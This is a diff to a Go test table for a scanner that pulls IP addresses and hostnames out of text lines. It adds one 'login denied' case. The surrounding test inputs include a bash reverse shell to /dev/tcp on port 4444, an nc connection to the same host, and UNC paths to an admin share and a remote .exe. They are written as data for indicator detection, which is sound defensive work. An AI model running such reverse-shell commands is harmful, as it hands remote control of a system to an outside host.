@@ -256,6 +256,7 @@ func TestScan(t *testing.T) {
 		{`bash -i >& /dev/tcp/192.31.196.66/4444 0>&1`, []string{}},
 		{`nc 192.31.196.66 4444`, []string{"ip-dst 192.31.196.66"}},
 		{`connection from 192.31.196.66:51234 closed.`, []string{"ip-dst 192.31.196.66"}},
+		{`login denied from (192.31.196.66)`, []string{"ip-dst 192.31.196.66"}},
 		{`src=192.31.196.66,dst=10.0.0.1`, []string{"ip-dst 192.31.196.66"}},
 		{`\\files.bad.example\share\a.exe`, []string{"hostname files.bad.example"}},
 		{`\\192.31.196.66\c$`, []string{"ip-dst 192.31.196.66"}},
